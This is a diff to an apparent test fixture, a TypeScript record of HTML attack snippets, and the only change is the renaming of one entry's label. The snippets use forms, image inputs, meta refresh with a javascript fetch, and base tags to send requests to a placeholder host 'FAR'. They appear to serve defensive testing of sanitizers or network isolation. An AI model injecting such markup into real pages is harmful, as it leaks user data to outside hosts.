@@ -33,7 +33,7 @@ export const attacks: Readonly<Record<string, string>> = {
   // forms
   "a form": `<form action="FAR/form" method="post"><input name="q" value="x"><input id="t" type="submit"><button id="b" formaction="FAR/formaction">go</button></form>`,
   "a picture that sends": `<form action="FAR/formpicture"><input id="t" type="image" src="FAR/inputimage"></form>`,
-  "a form that is somebody else's": `<form id="f" action="FAR/linked"></form><button form="f" id="b">go</button><input type="text" list="d"><isindex action="FAR/isindex">`,
+  "a form of another document": `<form id="f" action="FAR/linked"></form><button form="f" id="b">go</button><input type="text" list="d"><isindex action="FAR/isindex">`,
   // navigate
   "a refresh": `<meta http-equiv="refresh" content="0;url=FAR/refresh"><meta http-equiv="refresh" content="0;url=javascript:fetch('FAR/refresh2')">`,
   "another base": `<base href="FAR/base/" target="_top"><img src="viabase.png"><a id="l" href="relative">go</a>`,
